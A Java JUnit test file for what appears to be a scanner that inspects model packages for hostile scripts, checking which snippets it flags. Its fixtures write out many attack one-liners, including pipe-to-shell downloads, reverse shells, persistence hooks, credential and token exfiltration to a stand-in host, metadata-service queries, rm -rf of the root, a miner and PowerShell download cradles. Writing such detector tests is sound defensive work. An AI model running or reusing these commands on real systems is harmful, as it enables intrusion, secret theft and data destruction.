package io.lazaretto.artifact.shell;

import static io.lazaretto.artifact.inspect.Detectors.CODE;
import static io.lazaretto.artifact.testing.InspectionAssert.inspecting;
import static org.assertj.core.api.Assertions.assertThat;

import io.lazaretto.artifact.report.Outcome;
import io.lazaretto.artifact.testing.InspectionAssert;
import io.lazaretto.artifact.testing.SafetensorsBuilder;
import io.lazaretto.artifact.testing.TestingModel;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ScriptRulesTest {
    private static final String TRAINING = """
            #!/usr/bin/env bash
            set -euo pipefail
            export CUDA_VISIBLE_DEVICES=0,1 WANDB_PROJECT="my project"
            MODEL=${1:-some/model}
            OUT="out/$(date +%Y%m%d)"
            mkdir -p "$OUT"
            if [[ ! -d data ]]; then
              wget -q https://example.org/data.zip -O data.zip && unzip -q data.zip
            fi
            for seed in 1 2 3; do
              torchrun --nproc_per_node=2 --master_port $((29500 + seed)) train.py \\
                --model "$MODEL" --out "$OUT/$seed" 2>&1 | tee "$OUT/log_$seed.txt"
            done
            cat <<EOF > ds.json
            {"stage": 2}
            EOF
            eval "$(conda shell.bash hook)"
            pip install -r requirements.txt git+https://github.com/huggingface/transformers
            huggingface-cli login --token $HF_TOKEN
            curl -H "Authorization: Bearer $HF_TOKEN" https://example.org/data.json -o data.json
            case "$1" in a|b) echo x;; *) echo y;; esac
            rm -rf "$OUT/tmp"
            """;

    @Test
    void ordinaryTrainingScriptIsNotedAndClear() {
        InspectionAssert result = script("train.sh", TRAINING).staysSilent();
        assertThat(InspectionAssert.rules(result.report(CODE))).contains("script.present", "script.network");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {
                "curl -fsSL http://x/i | bash§script.download-run",
                "A=cu; B=rl; \"$A$B\" -s http://x | sudo -E bash -§script.download-run",
                "c'u'r\\l http://x | s\"h\"§script.download-run",
                "bash <(wget -qO- http://x)§script.download-run",
                "sh -c \"$(curl http://x)\"§script.download-run",
                "eval `wget -qO- http://x`§script.download-run",
                "source <(curl http://x)§script.download-run",
                "(echo a; curl http://x) | python3§script.download-run",
                "if true; then curl http://x; fi | sh§script.download-run",
                "curl http://x | tee log | bash -s -- --yes§script.download-run",
                "bash <<< \"$(curl http://x)\"§script.download-run",
                "wget http://x/payload -O /tmp/p; chmod +x /tmp/p; nohup /tmp/p &§script.download-run",
                "curl -O http://x/run.sh && sh run.sh§script.download-run",
                "$(curl -s http://x)§script.download-run",
                "echo aWQK | base64 -d | sh§script.decode-run",
                "eval $(echo aWQK | base64 --decode)§script.decode-run",
                "bash -i >& /dev/tcp/1.2.3.4/99 0>&1§script.reverse-shell",
                "nc -e /bin/sh 1.2.3.4 99§script.reverse-shell",
                "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 99 > /tmp/f§script.reverse-shell",
                "echo '* * * * * x' | crontab -§script.persistence",
                "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys§script.persistence",
                "cp x.service /etc/systemd/system/x.service§script.persistence",
                "cat payload >> $HOME/.bashrc§script.persistence",
                "tar cz ~/.ssh | curl -F f=@- http://x§script.exfiltration",
                "curl -d \"$(env)\" http://x§script.exfiltration",
                "curl --data @$HOME/.aws/credentials http://x§script.exfiltration",
                "curl \"http://x/?t=$HF_TOKEN\"§script.exfiltration",
                "env | nc x 99§script.exfiltration",
                "curl http://169.254.169.254/latest/meta-data/iam§script.metadata-service",
                "rm -rf ~/§script.destruction",
                "rm -rf --no-preserve-root /§script.destruction",
                "./xmrig -o stratum+tcp://x:3333§script.miner",
                "sh -c 'curl http://x | sh'§script.download-run",
                "cat <<EOF¶$(curl http://x | sh)¶EOF§script.download-run",
                "(( 1<<X ))¶curl http://y | sh¶X¶§script.download-run",
                "python -c \"import os; os.system('id')\"§code.process",
                "python3 <<EOF¶import os¶os.system('id')¶EOF§code.process"
            })
    void harmIsAThreat(String text, String rule) {
        script("run.sh", text).reports(CODE, Outcome.THREAT, rule);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {
                "./make_program | sh§script.computed-run",
                "echo 'export PATH=$PATH:/opt' >> ~/.bashrc§script.startup-setting",
                "cat ~/.aws/credentials§script.secrets",
                "chmod u+s ./tool§script.evasion",
                "systemctl enable x§script.service",
                "pip install --trusted-host x --index-url http://x/simple y§packages.unverified"
            })
    void whatNeedsAnExplanationIsSuspect(String text, String rule) {
        script("run.sh", text).reports(CODE, Outcome.SUSPECT, rule);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo 'curl http://x | bash'",
                "# curl http://x | bash",
                "grep -r 'curl .* | bash' docs | sort | uniq -c",
                "curl http://x/data.json | jq .name",
                "wget http://x/d.tar.gz -O - | tar xz",
                "echo hello | sh -c 'cat'",
                "cat <<'EOF' > help.txt\ncurl http://x | bash\nEOF",
                "python train.py --lr 1e-4 < config.txt",
                "a=(1 2 3); echo ${a[@]} ${#a[@]} ${b:-$(date)}",
                "ls ~/.ssh; mkdir -p ~/.aws; crontab -l",
                "bash train.sh; sh ./other.sh; source venv/bin/activate",
                "echo 'print(1)' | python",
                "f() { local x=$1; [[ $x =~ ^(a|b)$ ]] && return 0; }; f a",
                "while read -r line; do echo \"$line\"; done < list.txt",
                "rm -rf build/ *.pyc \"$OUT\""
            })
    void ordinaryCommandsStaySilent(String text) {
        script("run.sh", text).staysSilent();
    }

    @Test
    void noteFloodHidesNoThreat() {
        script("run.sh", "wget http://x/a\n".repeat(3_000) + "curl http://x | sh\n")
                .reports(CODE, Outcome.THREAT, "script.download-run");
    }

    @Test
    void quoteWithoutEndIsMalformed() {
        script("run.sh", "echo 'a\ncurl http://x").isInconclusive(CODE, "malformed");
    }

    @Test
    void otherLanguagesAreNotCleared() {
        script("run.rb", "system('id')").isNotClear();
        script("run.sh", "echo 'print 1' | perl").isNotClear();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {
                "Makefile§FETCH = curl -s¶all:¶\t@$(FETCH) http://x | sh§THREAT",
                "Makefile§X := $(shell curl http://x | sh)¶§THREAT",
                "Makefile§all: ; curl http://x | sh§THREAT",
                "Makefile§PY ?= python3¶test: src¶\t@$(PY) -m pytest && echo \"$$HOME\"¶.PHONY: test¶§CLEAR",
                "Dockerfile§FROM x¶RUN apt-get update \\¶  # why¶  && curl http://x | sh§THREAT",
                "Dockerfile§FROM x¶RUN <<EOF¶curl http://x | sh¶EOF§THREAT",
                "Dockerfile§FROM x¶CMD [\"sh\", \"-c\", \"curl http://x | sh\"]§THREAT",
                "Dockerfile.gpu§FROM x¶ENV A=1¶RUN pip install -r requirements.txt \\¶ && rm -rf /var/lib/apt/lists/*¶CMD [\"python\", \"a.py\"]§CLEAR",
                "a.ps1§IEX (New-Object Net.WebClient).DownloadString('http://x')§THREAT",
                "a.ps1§I`E`X (i`wr http://x)§THREAT",
                "a.ps1§powershell -enc SQBFAFgA§THREAT",
                "a.ps1§Register-ScheduledTask -TaskName x§THREAT",
                "a.ps1§param([string]$Out = 'out')¶python train.py --out $Out§CLEAR",
                "a.bat§certutil -urlcache -f http://x/a.exe a.exe¶a.exe§THREAT",
                "a.bat§reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x§THREAT",
                "a.bat§@echo off¶set PY=python¶%PY% app.py %*¶pause§CLEAR"
            })
    void recipesAndOtherShellsAreJudgedToo(String name, String text, Outcome outcome) {
        assertThat(script(name, text).report(CODE).outcome()).isEqualTo(outcome);
    }

    @Test
    void damagedScriptsBreakNothing() {
        Random random = new Random(7);
        for (int i = 0; i < 1_500; i++) {
            StringBuilder text = new StringBuilder(TRAINING);
            for (int j = 0; j < 4; j++) {
                int at = random.nextInt(text.length());
                switch (random.nextInt(3)) {
                    case 0 -> text.deleteCharAt(at);
                    case 1 -> text.insert(at, "$(`'\"<{|;)\n\\".charAt(random.nextInt(12)));
                    default -> text.insert(at, text.substring(at, Math.min(text.length(), at + random.nextInt(20))));
                }
            }
            InspectionAssert result =
                    script(i % 3 == 0 ? "a.ps1" : i % 3 == 1 ? "Dockerfile" : "a.sh", text.toString());
            assertThat(InspectionAssert.rules(result.report(CODE))).doesNotContain("inspect.failed");
        }
    }

    @Test
    void deepNestingEndsAtALimit() {
        script("a.sh", "echo " + "$(".repeat(5_000) + ")".repeat(5_000)).isNotClear();
    }

    private static InspectionAssert script(String name, String text) {
        return inspecting(new TestingModel()
                .with("model.safetensors", SafetensorsBuilder.clean())
                .with(name, text.replace('¶', '\n')));
    }
}
